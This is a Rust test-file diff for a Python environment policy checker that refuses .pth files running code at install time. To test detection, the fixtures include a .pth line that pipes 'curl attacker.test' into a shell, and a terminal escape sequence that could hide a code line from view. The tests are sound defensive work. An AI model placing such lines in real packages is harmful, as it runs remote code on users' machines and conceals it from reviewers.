@@ -7,8 +7,8 @@ use std::path::PathBuf;
 use common::*;
 use safevenv_policy::{
     Advisory, ArchiveProblem, ArchiveProblemKind, ArtifactKind, AttestationStatus, ConfiguredIndex,
-    EnvironmentFile, HashOrigin, InstalledDistribution, Origin, PthFile, Publisher, RuleId,
-    Severity, Source,
+    EnvironmentFile, HashOrigin, InstalledDistribution, Origin, PthCodeLine, PthFile, Publisher,
+    RuleId, Severity, Source,
 };
 
 const COMMIT: &str = "0123456789abcdef0123456789abcdef01234567";
@@ -359,12 +359,20 @@ fn licenses_allow_deny_and_unknown() {
 
 // contents.pth-exec
 
-fn with_pth(project: &str, file: &str, line: &str) -> safevenv_policy::PackageFacts {
+/// `project` installing `file`, whose lines the wheel reader classified as code are `code`.
+fn with_pth(project: &str, file: &str, code: &[&str]) -> safevenv_policy::PackageFacts {
     let mut facts = package(project, "1.0");
     facts.contents.as_mut().unwrap().pth_files.push(PthFile {
         name: file.to_string(),
         path: format!("lib/python3.12/site-packages/{file}"),
-        lines: vec![line.to_string()],
+        code_lines: code
+            .iter()
+            .enumerate()
+            .map(|(index, text)| PthCodeLine {
+                number: index + 2,
+                text: (*text).to_string(),
+            })
+            .collect(),
     });
     facts
 }
@@ -374,23 +382,28 @@ fn executable_pth_is_refused() {
     let evil = with_pth(
         "foo",
         "foo.pth",
-        "import os; os.system('curl attacker.test | sh')",
+        &["import os; os.system('curl attacker.test | sh')"],
     );
     let refusals = assert_refused(judge("", &set(vec![evil])), RuleId::ContentsPthExec);
-    assert!(refusals.to_string().contains("foo.pth"));
-    // Plain path lines are not code.
-    assert_approved(judge(
-        "",
-        &set(vec![with_pth("foo", "foo.pth", "/opt/foo/lib")]),
-    ));
+    let message = refusals.to_string();
+    assert!(message.contains("foo.pth"), "{message}");
+    assert!(
+        message.contains("line 2 `import os; os.system('curl attacker.test | sh')`"),
+        "{message}"
+    );
+    // A file with path lines only runs no code.
+    assert_approved(judge("", &set(vec![with_pth("foo", "foo.pth", &[])])));
     // The exemption is by package AND file.
     let allow = "[contents]\npth-exec-allow = [{ package = \"foo\", file = \"foo.pth\" }]\n";
     assert_approved(judge(
         allow,
-        &set(vec![with_pth("foo", "foo.pth", "import foo")]),
+        &set(vec![with_pth("foo", "foo.pth", &["import foo"])]),
     ));
     assert_refused(
-        judge(allow, &set(vec![with_pth("bar", "foo.pth", "import foo")])),
+        judge(
+            allow,
+            &set(vec![with_pth("bar", "foo.pth", &["import foo"])]),
+        ),
         RuleId::ContentsPthExec,
     );
 }
@@ -452,19 +465,32 @@ fn startup_modules_are_refused_unless_allowed_like_pth_code() {
 }
 
 #[test]
+fn a_pth_code_line_is_shown_with_its_control_characters_escaped() {
+    // A terminal escape sequence could otherwise erase the line that names the code.
+    let evil = with_pth("foo", "foo.pth", &["import os\x1b[2K\r/opt/lib"]);
+    let refusals = assert_refused(judge("", &set(vec![evil])), RuleId::ContentsPthExec);
+    let message = refusals.to_string();
+    assert!(!message.contains('\x1b'), "{message:?}");
+    assert!(
+        message.contains("import os\\u{1b}[2K\\r/opt/lib"),
+        "{message}"
+    );
+}
+
+#[test]
 fn default_preset_knows_the_legitimate_pth_files() {
     let setuptools = with_pth(
         "setuptools",
         "distutils-precedence.pth",
-        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'",
+        &["import os; var = 'SETUPTOOLS_USE_DISTUTILS'"],
     );
     assert_approved(judge("", &set(vec![setuptools])));
     // Another project may not borrow setuptools' exemption.
-    let impostor = with_pth("setuptool", "distutils-precedence.pth", "import os");
+    let impostor = with_pth("setuptool", "distutils-precedence.pth", &["import os"]);
     assert_refused(judge("", &set(vec![impostor])), RuleId::ContentsPthExec);
 
     let finder = "import __editable___mylib_finder; __editable___mylib_finder.install()";
-    let mut local = with_pth("mylib", "__editable__.mylib-0.1.pth", finder);
+    let mut local = with_pth("mylib", "__editable__.mylib-0.1.pth", &[finder]);
     local.source = Source::Path {
         path: PathBuf::from("/proj/mylib"),
         editable: true,
@@ -473,7 +499,7 @@ fn default_preset_knows_the_legitimate_pth_files() {
     let allow_path = "[sources]\npath-allow = [{ package = \"mylib\", path = \".\" }]\n";
     assert_approved(judge(allow_path, &set(vec![local])));
     // The same file in a wheel from an index is not an editable install.
-    let from_index = with_pth("mylib", "__editable__.mylib-0.1.pth", finder);
+    let from_index = with_pth("mylib", "__editable__.mylib-0.1.pth", &[finder]);
     assert_refused(judge("", &set(vec![from_index])), RuleId::ContentsPthExec);
 }
 
